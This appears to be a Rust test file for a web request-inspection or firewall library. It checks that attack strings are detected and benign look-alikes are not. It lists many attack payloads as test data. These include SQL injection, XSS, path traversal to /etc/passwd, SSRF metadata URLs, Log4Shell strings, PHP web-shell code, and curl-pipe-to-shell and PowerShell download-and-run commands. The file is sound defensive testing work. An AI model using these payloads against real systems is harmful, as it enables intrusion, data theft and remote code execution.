//! Per-threat checks: attacks written for these tests are flagged in the places they go,
//! and legitimate values that look a little like them are not.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests"
)]

use proptest::prelude::*;

use super::*;

const EVERY_PLACE: [Place; 9] = [
    Place::QueryArg,
    Place::QueryString,
    Place::UriPath,
    Place::Header,
    Place::Cookie,
    Place::FormValue,
    Place::JsonString,
    Place::BodyRaw,
    Place::UserAgent,
];

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// `value` as it sits raw in `place`: percent-encoded in URL places, itself elsewhere.
fn raw_in(value: &str, place: Place) -> String {
    match place {
        Place::QueryArg | Place::FormValue | Place::Cookie => pct(value),
        Place::QueryString => format!("q={}", pct(value)),
        Place::UriPath => format!("/api/items/{}", pct(value)),
        _ => value.to_owned(),
    }
}

fn flags(threats: &[Threat], value: &str, place: Place) -> Option<Finding> {
    let raw = raw_in(value, place);
    let s = Subject::new(raw.as_bytes(), place);
    threats.iter().find_map(|t| s.detect(*t, Sensitivity::Low))
}

fn assert_flagged(threats: &[Threat], attacks: &[&str], places: &[Place]) {
    for a in attacks {
        for p in places {
            assert!(
                flags(threats, a, *p).is_some(),
                "{threats:?} missed {a:?} in {p:?}"
            );
        }
    }
}

fn assert_clean(threats: &[Threat], values: &[&str], places: &[Place]) {
    for v in values {
        for p in places {
            if let Some(f) = flags(threats, v, *p) {
                panic!("{v:?} in {p:?} flagged: {f}");
            }
        }
    }
}

const SQL: &[Threat] = &[Threat::Sqli, Threat::SqliExtended];

#[test]
fn sql_injection() {
    assert_flagged(
        SQL,
        &[
            "' OR 1=1--",
            "1 UNION SELECT password FROM users",
            "x' AND 7=7 AND 'q'='q",
            "10; DROP TABLE invoices --",
            "'); WAITFOR DELAY '0:0:9'--",
            "1 AND SLEEP(7)",
            "bob'/**/oR/**/'z'='z",
            "-3 UnIoN/**/aLl/**/SeLeCt 1,@@version,3#",
            "name' || pg_sleep(4) --",
            "widget 1 UNION SELECT username, password FROM users",
            "report 9 union(select 1,2,3)",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        SQL,
        &[
            "O'Brien",
            "D'Angelo & Sons",
            "select the best plan for your team",
            "union members meet on Friday",
            "Please leave it with the union members' desk if I'm out.",
            "drop-off at 5",
            "Rock 'n' roll and blues",
            "It's 5 o'clock -- time for tea",
            "price >= 10 and rating > 4",
            "user@example.com",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
            "\"Where can I find the union fitting (1/2\" to 3/4\")?\"",
            "Update: we shipped; order #12 is on its way",
        ],
        &[
            Place::QueryArg,
            Place::JsonString,
            Place::FormValue,
            Place::Header,
            Place::Cookie,
        ],
    );
}

#[test]
fn sql_in_documents_needs_a_breakout() {
    let post = "Here is how I lock the row:\n\n```sql\nUPDATE accounts SET balance = balance - 10 WHERE id = 42;\nSELECT * FROM accounts WHERE id = 42 FOR UPDATE;\n```\nThanks!";
    assert!(flags(SQL, post, Place::JsonString).is_none());
    let attack = "Nice post\nreally\nname' OR '1'='1' --";
    assert!(flags(SQL, attack, Place::JsonString).is_some());
}

#[test]
fn match_statements() {
    assert!(sqli(b"1' or '1'='1", Sensitivity::Low));
    assert!(sqli(b"1 union select null,null--", Sensitivity::Low));
    assert!(!sqli(b"hello world", Sensitivity::High));
    assert!(!sqli(b"o'brien", Sensitivity::Low));
    assert!(xss(b"<script>alert(1)</script>"));
    assert!(xss(b"<img src=x onerror=alert(1)>"));
    assert!(!xss(b"5 < 6 & \"quoted\""));
    assert!(!xss(b"<p><b>bold</b> text</p>"));
}

#[test]
fn cross_site_scripting() {
    assert_flagged(
        &[Threat::Xss],
        &[
            "<svg onload=alert(1)>",
            "\"><img src=q onerror=prompt(document.domain)>",
            "<ScRiPt>confirm(9)</sCrIpT>",
            "javascript:alert(document.cookie)",
            "\" autofocus onfocus=alert(2) x=\"",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "';alert(String.fromCharCode(88))//",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Xss],
        &[
            "Tom & Jerry <3",
            "if a < b && c > d then",
            "Size: 10\" x 12\" (approx.) & 'vintage' <new>",
            "<p style=\"text-align: center;\"><strong>Sale</strong> ends Friday!</p>",
            "JavaScript: The Good Parts",
            "Set a price alert for this item",
            "https://example.com/search?q=shoes&sort=price",
            "<?xml version=\"1.0\"?><order id=\"7\"><item>pen</item></order>",
        ],
        &[
            Place::QueryArg,
            Place::JsonString,
            Place::FormValue,
            Place::BodyRaw,
        ],
    );
}

#[test]
fn local_file_inclusion() {
    assert_flagged(
        &[Threat::Lfi],
        &[
            "../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/shadow",
            "php://filter/convert.base64-encode/resource=index.php",
            "/proc/self/environ",
            "..%c0%af..%c0%afetc/passwd",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Lfi],
        &[
            "see ../docs/intro.md",
            "file..name.txt",
            "/api/v1/etc",
            "Reports, etc. / summaries",
            "v1.2..v1.3",
        ],
        &[Place::QueryArg, Place::JsonString, Place::FormValue],
    );
    // A double-encoded climb in a path.
    assert!(
        detect(
            Threat::Lfi,
            b"/static/%252e%252e/%252e%252e/etc/hosts",
            Place::UriPath,
            Sensitivity::Low
        )
        .is_some()
    );
    assert!(
        detect(
            Threat::Lfi,
            b"/static/css/site.css",
            Place::UriPath,
            Sensitivity::Low
        )
        .is_none()
    );
}

#[test]
fn remote_inclusion_and_ssrf() {
    assert_flagged(
        &[Threat::Rfi],
        &[
            "http://203.0.113.9/shell.txt",
            "https://198.51.100.7/x.php?",
        ],
        &EVERY_PLACE,
    );
    assert_flagged(
        &[Threat::SsrfMetadata],
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/latest/",
            "http://0xa9fea9fe/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://0251.0376.0251.0376/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/",
        ],
        &EVERY_PLACE,
    );
    assert_flagged(
        &[Threat::Ssrf],
        &[
            "gopher://127.0.0.1:6379/_INFO",
            "http://127.1/",
            "http://localhost:2375/containers/json",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Rfi, Threat::SsrfMetadata, Threat::Ssrf],
        &[
            "https://app.example.com/oauth/callback",
            "http://localhost:3000/callback",
            "http://127.0.0.1:8080/auth/done",
            "Version 169.254 of the spec",
            "order 2852039166",
        ],
        &[Place::QueryArg, Place::JsonString, Place::Header],
    );
}

#[test]
fn log4shell() {
    assert_flagged(
        &[Threat::Log4j],
        &[
            "${jndi:ldap://203.0.113.5/a}",
            "${${lower:j}ndi:${lower:l}dap://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/z}",
            "${j${env:NOPE:-n}di:dns://x}",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Log4j],
        &["${price} per month", "Total: $5 {approx}", "${env:HOME}"],
        &[Place::JsonString, Place::QueryArg],
    );
}

#[test]
fn java_deserialization() {
    assert_flagged(
        &[Threat::JavaDeserialization],
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
        ],
        &[
            Place::QueryArg,
            Place::JsonString,
            Place::Header,
            Place::Cookie,
        ],
    );
    assert!(
        detect(
            Threat::JavaDeserialization,
            b"\xac\xed\x00\x05sr\x00",
            Place::BodyRaw,
            Sensitivity::Low
        )
        .is_some()
    );
    assert_clean(
        &[Threat::JavaDeserialization],
        &["java.util.List is an interface", "rO0 is not a word"],
        &[Place::JsonString],
    );
}

#[test]
fn shell_commands() {
    assert_flagged(
        &[Threat::UnixCommand],
        &[
            "; cat /etc/passwd",
            "| id",
            "`whoami`",
            "$(curl http://x.test/s.sh|sh)",
            "a;w'h'o'am'i",
            "x${IFS}&&${IFS}uname${IFS}-a",
            "() { :;}; /bin/bash -c id",
        ],
        &EVERY_PLACE,
    );
    assert_flagged(
        &[Threat::WindowsCommand],
        &[
            "& cmd.exe /c dir",
            "| type %SYSTEMROOT%\\win.ini",
            "&& net user hacker P4ss /add",
        ],
        &EVERY_PLACE,
    );
    assert_flagged(
        &[Threat::PowerShell],
        &[
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[
            Threat::UnixCommand,
            Threat::WindowsCommand,
            Threat::PowerShell,
        ],
        &[
            "Tom & Jerry; cats | dogs",
            "Skills: Java; Python; Go",
            "sort=id",
            "drop-off at 5; id card needed",
            "cat toys & dog beds",
            "time 5pm | room 2",
            "Please type your name",
            "query GetOrder($id: ID!) {\n  order(id: $id) {\n    id\n    status\n  }\n}",
        ],
        &[
            Place::QueryArg,
            Place::JsonString,
            Place::FormValue,
            Place::BodyRaw,
        ],
    );
    // A Markdown table in a document.
    assert_clean(
        &[Threat::UnixCommand],
        &["# Notes\n\n| env | url |\n|---|---|\n| dev | http://localhost:8080 |\n"],
        &[Place::JsonString, Place::BodyRaw],
    );
}

#[test]
fn php_injection() {
    assert_flagged(
        &[Threat::Php],
        &[
            "<?php system($_GET['c']); ?>",
            "system('ls -la');",
            "${@print(md5(1))}",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Php],
        &[
            "The system (as designed) works",
            "include the receipt",
            "$5 off",
        ],
        &[Place::JsonString, Place::QueryArg],
    );
}

#[test]
fn templates_nosql_ldap_prototype() {
    assert_flagged(
        &[Threat::Ssti],
        &[
            "{{7*7}}",
            "${3*3}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Ssti],
        &[
            "Hello {{first_name}}!",
            "{% if user %}hi{% endif %}",
            "${amount} due",
        ],
        &[Place::JsonString],
    );
    assert_flagged(
        &[Threat::NoSqli],
        &[
            "{\"$gt\": \"\"}",
            "[$ne]=1",
            "'; return true; var x='",
            "true, $where: '1 == 1'",
        ],
        &EVERY_PLACE,
    );
    assert!(detect(Threat::NoSqli, b"$ne", Place::JsonKey, Sensitivity::Low).is_some());
    assert!(detect(Threat::NoSqli, b"$schema", Place::JsonKey, Sensitivity::Low).is_none());
    assert_flagged(
        &[Threat::Ldap],
        &[
            "*)(uid=*))(|(uid=*",
            "admin*)((|userpassword=*)",
            "*(|(objectclass=*))",
        ],
        &EVERY_PLACE,
    );
    assert_clean(
        &[Threat::Ldap],
        &["(see above)", "5 * (3 + 2)", "Smith (Jr.)"],
        &[Place::JsonString, Place::QueryArg],
    );
    assert_flagged(
        &[Threat::PrototypePollution],
        &["__proto__[admin]", "constructor[prototype][role]"],
        &[Place::QueryArgName, Place::QueryArg],
    );
    assert!(
        detect(
            Threat::PrototypePollution,
            b"__proto__",
            Place::JsonKey,
            Sensitivity::Low
        )
        .is_some()
    );
    assert!(
        detect(
            Threat::PrototypePollution,
            b"constructor",
            Place::JsonKey,
            Sensitivity::Low
        )
        .is_none()
    );
}

#[test]
fn paths_bots_redirects_crlf_xxe() {
    let path = |p: &str, t| detect(t, p.as_bytes(), Place::UriPath, Sensitivity::Low).is_some();
    assert!(path("/backup/db.sql", Threat::RestrictedExtension));
    assert!(path("/.env", Threat::RestrictedExtension));
    assert!(path("/config.php.bak", Threat::RestrictedExtension));
    assert!(!path("/openapi.yaml", Threat::RestrictedExtension));
    assert!(!path("/docs/guide.html", Threat::RestrictedExtension));
    assert!(path("/WEB-INF/web.xml", Threat::ExploitablePath));
    assert!(path("/app/.git/config", Threat::ExploitablePath));
    assert!(!path("/api/v1/git/commits", Threat::ExploitablePath));
    let q = |v: &str, t| detect(t, v.as_bytes(), Place::QueryArg, Sensitivity::Low).is_some();
    assert!(q("..%2F..%2F..%2Fetc%2Fpasswd", Threat::LinuxFile));
    assert!(q("/proc/self/environ", Threat::LinuxFile));
    assert!(!q("..\\..\\windows\\win.ini", Threat::LinuxFile));
    assert!(!q("/account/settings", Threat::LinuxFile));
    assert!(path("/wp-admin/", Threat::AdminPath));
    assert!(path("/phpmyadmin/index.php", Threat::AdminPath));
    assert!(!path("/api/administrators-guide", Threat::AdminPath));
    let ua = |u: &str| {
        detect(
            Threat::BadBot,
            u.as_bytes(),
            Place::UserAgent,
            Sensitivity::Low,
        )
        .is_some()
    };
    assert!(ua("sqlmap/1.7.2#stable (https://sqlmap.org)"));
    assert!(ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"));
    assert!(!ua(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
    ));
    assert!(!ua("curl/8.5.0"));
    assert_flagged(
        &[Threat::OpenRedirect],
        &[
            "/\\evil.example",
            "////evil.example/",
            "https://trusted.example@evil.example/",
            "http:evil.example",
        ],
        &[Place::QueryArg],
    );
    assert_clean(
        &[Threat::OpenRedirect],
        &[
            "https://app.example.com/next",
            "/account/settings",
            "//cdn.example.com/lib.js",
        ],
        &[Place::QueryArg],
    );
    assert!(
        detect(
            Threat::Crlf,
            b"en%0d%0aSet-Cookie:%20a=1",
            Place::QueryArg,
            Sensitivity::Low
        )
        .is_some()
    );
    assert!(
        detect(
            Threat::Crlf,
            b"Line one\r\nLine two: the sequel",
            Place::JsonString,
            Sensitivity::Low
        )
        .is_none()
    );
    assert!(
        detect(
            Threat::Xxe,
            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            Place::BodyRaw,
            Sensitivity::Low
        )
        .is_some()
    );
}

#[test]
fn findings_carry_no_value() {
    let secret = "' OR 1=1 -- s3cr3t-t0k3n";
    let f = flags(SQL, secret, Place::QueryArg).unwrap();
    assert!(!format!("{f:?} {f}").contains("s3cr3t"));
}

/// Every detector, every place, on `data`: nothing panics, and it takes bounded time.
fn check_all(data: &[u8]) {
    let start = std::time::Instant::now();
    for place in EVERY_PLACE
        .into_iter()
        .chain([Place::QueryArgName, Place::JsonKey])
    {
        let s = Subject::new(data, place);
        for t in Threat::ALL {
            let _ = s.detect(t, Sensitivity::Low);
            let _ = s.detect(t, Sensitivity::High);
        }
    }
    let _ = sqli(data, Sensitivity::High);
    let _ = xss(data);
    // Generous for unoptimised test builds on a loaded machine; linear work in practice.
    assert!(
        start.elapsed() < std::time::Duration::from_secs(5),
        "{} bytes took {:?}",
        data.len(),
        start.elapsed()
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes(data in proptest::collection::vec(any::<u8>(), 0..300)) {
        check_all(&data);
    }

    #[test]
    fn hostile_pieces(pieces in proptest::collection::vec(prop::sample::select(vec![
        "%", "%25", "%u", "%u002e", "%c0%ae", "&#", "&#x3c", "&lt;", "\\", "\\x3c", "\\u003c", "'", "\"", "`",
        "${", "}", "{{", "((", "))", "/*", "*/", "--", "#", ";", "|", "&", "../", "..\\", "<", ">", "=", "union",
        "select", "or", "1", " ", "\n", "\0", "é", "\u{ff0e}", "jndi:", "${::-j}", "://", "@", "0x", "rO0AB",
    ]), 0..60)) {
        check_all(pieces.concat().as_bytes());
    }
}

#[test]
fn long_hostile_values_are_bounded() {
    let mut v = "${".repeat(3000);
    v.push_str(&"'or'".repeat(3000));
    v.push_str(&"%25".repeat(3000));
    v.push_str(&"../".repeat(3000));
    check_all(v.as_bytes());
}

#[test]
fn raw_json_operator_keys() {
    let key = |k: &str, t| detect(t, k.as_bytes(), Place::JsonKey, Sensitivity::Low).is_some();
    assert!(key("prototype", Threat::PrototypePollution));
    assert!(!key("constructor", Threat::PrototypePollution));
    assert!(key("$lookup", Threat::NoSqli));
    assert!(key("$where", Threat::NoSqli));
    assert!(!key("$schema", Threat::NoSqli));
    assert!(!key("$id", Threat::NoSqli));
    let json = |v: &str, t| detect(t, v.as_bytes(), Place::JsonString, Sensitivity::Low).is_some();
    assert!(json("${sys:user.home}", Threat::Log4j));
    assert!(json("${env:AWS_SECRET_ACCESS_KEY}", Threat::Log4j));
    assert!(!json("${env:HOME}/bin", Threat::Log4j));
    assert!(json(
        "Object.prototype.isAdmin = true",
        Threat::PrototypePollution
    ));
    assert!(!json(
        "Use Object.prototype.hasOwnProperty.call(obj, key) instead",
        Threat::PrototypePollution
    ));
}

#[test]
fn redirect_obfuscations() {
    let q = |v: &str| {
        let raw = pct(v);
        detect(
            Threat::OpenRedirect,
            raw.as_bytes(),
            Place::QueryArg,
            Sensitivity::Low,
        )
        .is_some()
    };
    assert!(q("<>//evil.example"));
    assert!(q("http://trusted.example&evil.example"));
    assert!(q("http://x@[::203.0.113.9]"));
    assert!(q("\u{3031}evil.example"));
    assert!(q("/\u{30fc}evil.example"));
    assert!(q("/\t/evil.example"));
    assert!(!q("\u{30c7}\u{30fc}\u{30bf}"));
    assert!(!q("https://app.example.com/welcome?lang=ja"));
    let path = |p: &str| {
        detect(
            Threat::OpenRedirect,
            p.as_bytes(),
            Place::UriPath,
            Sensitivity::Low,
        )
        .is_some()
    };
    assert!(path("/login///evil.example/"));
    assert!(path("/go/https:%2F%2Ftrusted.example@evil.example"));
    assert!(!path("/api//users"));
}
